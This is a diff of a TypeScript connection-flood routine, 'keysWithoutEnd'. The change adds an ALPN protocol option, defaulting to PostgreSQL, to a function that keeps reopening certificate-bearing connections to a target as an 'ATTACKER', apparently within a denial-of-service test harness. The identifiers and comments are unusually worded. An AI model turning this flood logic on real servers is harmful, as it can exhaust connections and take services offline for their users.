@@ -22,13 +22,17 @@ async function ask(client: OwnRecords, isOver: () => boolean): Promise<number> {
   return asked;
 }
 
-/** Some connections at a time; where one is ended the next one begins. @param whose certificate it shows. @param says before it asks */
-export function keysWithoutEnd(whose: (target: Attacked) => IssuedCertificate | undefined, says?: Buffer): Flood {
+/** Some connections at a time; where one is ended the next one begins. @param whose certificate it shows. @param says before it asks. @param protocol by ALPN */
+export function keysWithoutEnd(
+  whose: (target: Attacked) => IssuedCertificate | undefined,
+  says?: Buffer,
+  protocol = 'postgresql',
+): Flood {
   return async (target) => {
     let isOver = false;
     let [opened, asked] = [0, 0];
     const attempt = async () => {
-      const client = await OwnRecords.open(target, whose(target), ATTACKER).catch(() => undefined);
+      const client = await OwnRecords.open(target, whose(target), ATTACKER, protocol).catch(() => undefined);
       if (!client) return true;
       opened += 1;
       if (says) client.say(says);
